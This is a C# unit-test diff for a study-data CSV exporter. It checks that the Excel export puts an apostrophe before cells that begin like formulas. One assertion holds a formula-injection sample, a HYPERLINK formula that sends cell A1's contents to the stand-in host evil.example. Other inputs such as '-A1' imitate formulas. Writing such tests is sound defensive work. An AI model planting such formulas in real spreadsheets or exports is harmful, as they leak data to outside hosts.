@@ -38,6 +38,7 @@ public sealed class FormulaExportTests : IAsyncDisposable
             var typed = Field(cell(FormulaStudy.Texts[i].Typed));
             csv += $"formulas,c1,c1.r{i:D2},m1,ann,dose_error,{FormulaStudy.Numbers[i % 3]},{typed},{Stamp},{Stamp}\r\n";
             csv += $"formulas,c1,c1.r{i:D2},m1,ann,note,{typed},,{Stamp},{Stamp}\r\n";
+            if (i == 0) csv += $"formulas,c1,c1.r00,m1,ann,{cell("-A1")},true,,{Stamp},{Stamp}\r\n";
         }
         return csv;
     }
@@ -69,11 +70,59 @@ public sealed class FormulaExportTests : IAsyncDisposable
         var wide = Cells(await ExportAsync(output => export.WriteRatingsWideAsync(studyId, output)));
         var history = Cells(await ExportAsync(output => export.WriteHistoryAsync(studyId, output)));
 
-        Assert.Equal(["dose_error", "note"], wide[0][5..7]);
+        Assert.Equal(["dose_error", "note", "-A1"], wide[0][5..8]);
         Assert.Equal(FormulaStudy.Texts.Select(t => t.Typed), wide.Skip(1).Select(r => r[6]));
         Assert.Equal(FormulaStudy.Texts.Select((_, i) => FormulaStudy.Numbers[i % 3]), wide.Skip(1).Select(r => r[5]));
         Assert.Equal(FormulaStudy.Texts.Select(t => t.Typed), history.Skip(1).Where(r => r[3] == "dose_error").Select(r => r[5]));
         Assert.Equal(FormulaStudy.Texts.Select(t => t.Typed), history.Skip(1).Where(r => r[3] == "note").Select(r => r[4]));
+    }
+
+    [Fact]
+    public async Task TheExcelRatingsCsvPutsAnApostropheBeforeExactlyTheFormulas()
+    {
+        var (database, studyId) = await ImportAsync();
+
+        var csv = await ExportAsync(output => new CsvExport(database, forExcel: true).WriteRatingsAsync(studyId, output));
+
+        Assert.Equal(ExpectedRatings(FormulaStudy.ForExcel), csv);
+        Assert.Contains("ann,dose_error,-0.5,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",", csv);
+        Assert.Contains("ann,note,'-2+3,,", csv);
+        Assert.Contains("ann,dose_error,-1,-0.5,", csv);
+    }
+
+    [Fact]
+    public async Task TheExcelWideAndHistoryFilesDefuseTheFormulasAndTheirHeadersTheCriterionId()
+    {
+        var (database, studyId) = await ImportAsync();
+        var plain = new CsvExport(database);
+        var excel = new CsvExport(database, forExcel: true);
+
+        // Each of the 8 formulas among the 14 texts is a note, and in history.csv a comment too; and the id -A1 once.
+        foreach (var (write, defused) in new (Func<CsvExport, TextWriter, Task<long>>, int)[]
+                 {
+                     ((export, output) => export.WriteRatingsWideAsync(studyId, output), 8 + 1),
+                     ((export, output) => export.WriteHistoryAsync(studyId, output), 2 * 8 + 1),
+                 })
+        {
+            var expected = Cells(await ExportAsync(output => write(plain, output))).Select(r => r.Select(FormulaStudy.ForExcel).ToArray()).ToList();
+            var actual = Cells(await ExportAsync(output => write(excel, output)));
+
+            Assert.Equal(expected, actual);
+            Assert.Equal(defused, actual.SelectMany(r => r).Count(c => c.StartsWith('\'')));
+        }
+    }
+
+    [Fact]
+    public async Task TheExcelAgreementCsvOfTheDemoIsThePlainOneNegativeNumbersIncluded()
+    {
+        _db = await TestDatabase.CreateAsync();
+        var studyId = (await new StudyImporter(_db.Database, _db.Clock).ImportAsync(TestPaths.DemoBundle)).StudyId!.Value;
+
+        var plain = await ExportAsync(output => new CsvExport(_db.Database).WriteAgreementAsync(studyId, output));
+        var excel = await ExportAsync(output => new CsvExport(_db.Database, forExcel: true).WriteAgreementAsync(studyId, output));
+
+        Assert.Equal(plain, excel);
+        Assert.Contains(Cells(plain).SelectMany(r => r), c => c.StartsWith('-') && double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _));
     }
 
     public async ValueTask DisposeAsync()
